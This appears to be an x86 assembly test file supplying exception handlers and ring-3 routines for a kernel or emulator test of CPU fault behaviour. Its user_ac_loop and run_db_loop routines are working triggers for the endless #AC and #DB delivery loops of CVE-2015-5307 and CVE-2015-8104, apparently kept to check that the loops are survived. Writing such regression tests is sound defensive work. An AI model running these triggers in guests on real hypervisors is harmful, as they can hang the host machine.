; reflect: the handlers and the ring-3 code of reflect.c. Handlers that
; read or rewrite the CPU's frame, and code that must run at CPL 3 or on
; an odd stack, are written here so the exact stack layout is ours.

bits 32

SEL_DATA16 equ 0x20             ; 16-bit data, base 0, 64 KiB: SP wraps
RFLAGS_TF equ 0x100
RFLAGS_AC equ 0x40000
DR7_OFF equ 0x400

extern ring3_kernel_esp, user_return  ; lib/ring3.asm (run_user's way back)

section .data
global db_count, db_dr6, ac_count, ac_error, loop_escaped
db_count: dd 0
db_dr6: dd 0
ac_count: dd 0
ac_error: dd 0
loop_escaped: dd 0

section .text
; #DB handler (ring 0 to ring 0: EIP, CS, EFLAGS on the stack): records
; DR6, clears it, and returns with TF off so a single step stops.
global db_handler
db_handler:
	push eax
	mov eax, dr6
	mov [db_dr6], eax
	mov eax, 0xFFFF0FF0
	mov dr6, eax
	inc dword [db_count]
	and dword [esp + 12], ~RFLAGS_TF
	pop eax
	iretd

; #AC handler (from ring 3: error code, EIP, CS, EFLAGS, ESP, SS): counts,
; keeps the error code and returns with AC off, so the access is retried
; and succeeds.
global ac_handler
ac_handler:
	push eax
	mov eax, [esp + 4]
	mov [ac_error], eax
	inc dword [ac_count]
	and dword [esp + 16], ~RFLAGS_AC
	pop eax
	add esp, 4
	iretd

; Ring 3: a dword read one byte past an aligned buffer, with AC and
; CR0.AM set: #AC, retried without AC by ac_handler.
global user_misaligned, user_buf, user_value
user_misaligned:
	mov eax, [user_buf + 1]
	mov [user_value], eax
	int 0x81

; Ring 3 on an odd ESP: the read faults with #AC; #AC's gate leads to a
; conforming segment, so the CPU stays at CPL 3 and pushes its frame on
; the same odd stack: #AC again while delivering #AC, forever
; (CVE-2015-5307). ac_loop_escape runs only if that chain ever breaks.
global user_ac_loop, ac_loop_escape
user_ac_loop:
	mov eax, [esp]
	int 0x81
ac_loop_escape:
	mov dword [loop_escaped], 1
	int 0x81

; void run_db_loop(u32 dr0) -- a read/write breakpoint on the IDT entry of
; #DB (dr0), then a read of it: #DB, whose delivery reads that entry: #DB
; again after every delivery, forever (CVE-2015-8104). The stack is a
; 16-bit one so the endless pushes wrap inside low memory instead of
; running off the end of RAM. db_loop_escape runs only if the chain breaks.
global run_db_loop, db_loop_escape
run_db_loop:
	push ebp
	push ebx
	push esi
	push edi
	mov [ring3_kernel_esp], esp ; user_return comes back here
	mov ebx, [esp + 20]
	mov dr0, ebx
	mov eax, 0x000F0401         ; L0, RW0 = 11 (read/write), LEN0 = 11 (4 bytes)
	mov dr7, eax
	mov ax, SEL_DATA16
	mov ss, ax
	mov esp, 0x8000
	mov eax, [ebx]
	jmp db_loop_escape
db_loop_escape:
	mov dword [loop_escaped], 1
	mov eax, DR7_OFF
	mov dr7, eax
	jmp user_return

section .bss
alignb 16
user_buf: resb 16
user_value: resd 1

section .note.GNU-stack noalloc noexec nowrite progbits
